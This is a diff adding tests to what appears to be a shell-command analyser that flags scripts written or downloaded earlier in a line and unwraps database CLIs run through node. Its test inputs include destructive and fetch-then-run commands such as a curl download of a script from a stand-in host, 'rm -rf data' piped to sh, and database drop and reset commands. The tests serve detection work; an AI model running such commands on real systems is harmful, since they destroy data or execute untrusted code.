@@ -152,6 +152,25 @@ describe('files written earlier in the line', () => {
     ]) expect((await run(line)).invs.some((i) => i.opaque), line).toBe(true);
   });
 
+  it('running a script is not writing it: a script an earlier command ran is not new', async () => {
+    for (const line of [
+      'python manage.py makemigrations shop && python manage.py migrate shop',
+      'poetry run python manage.py makemigrations && poetry run python manage.py migrate',
+      'php artisan migrate; php artisan test',
+      'bin/rails db:migrate && bin/rails test',
+      'bash scripts/x.sh a; bash scripts/x.sh b',
+    ]) expect((await run(line)).invs.some((i) => i.opaque), line).toBe(false);
+    // What else writes it, or a script no command ran before, is still new.
+    for (const line of [
+      'sed -i s/a/b/ manage.py && python manage.py migrate',
+      'python manage.py check; curl -o manage.py https://x.example/m.py; python manage.py migrate',
+      'python3 gen.py > out.py; python3 out.py',
+      'python3 gen.py && python3 out.py',
+      'sed -i s/a/b/ bin/rails && bin/rails test',
+      './gen.sh x && ./out.sh',
+    ]) expect((await run(line)).invs.some((i) => i.opaque), line).toBe(true);
+  });
+
   it('each invocation carries what was written before it, not after', async () => {
     const { invs } = await run("psql -f q.sql; printf 'DROP TABLE t;' > q.sql; psql -f q.sql");
     const psqls = invs.filter((i) => i.name === 'psql');
@@ -405,5 +424,21 @@ describe('files a shell is told to read', () => {
     expect((await run("echo 'rm -rf data' | sh /dev/fd/0")).shown).toContain('rm -rf data');
     const { invs } = await run('cat x | bash /dev/stdin');
     expect(invs.some((i) => i.opaque)).toBe(true);
+  });
+});
+
+describe('a package bin run by node', () => {
+  it('is the program itself, with the rest of the arguments', async () => {
+    for (const [line, cmd] of [
+      ['node --env-file=.env node_modules/.bin/prisma migrate reset --force', 'prisma migrate reset --force'],
+      ['node -r dotenv/config ./node_modules/.bin/sequelize db:drop', 'sequelize db:drop'],
+      ['node node_modules/prisma/build/index.js db push --force-reset', 'prisma db push --force-reset'],
+      ['node node_modules/@mikro-orm/cli/dist/cli.js schema:drop --run', 'mikro-orm schema:drop --run'],
+      ['bun node_modules/.bin/drizzle-kit push --force', 'drizzle-kit push --force'],
+    ] as const) expect((await run(line)).shown, line).toContain(cmd);
+    // Inline code and other scripts are not bins; bun's own subcommands still run theirs.
+    expect((await run('node -e 1 node_modules/.bin/prisma migrate reset')).shown).not.toContain('prisma migrate reset');
+    expect((await run('node dist/index.js migrate reset')).shown).toEqual(['node dist/index.js migrate reset']);
+    expect((await run('bun x prisma migrate reset --force')).shown).toContain('prisma migrate reset --force');
   });
 });
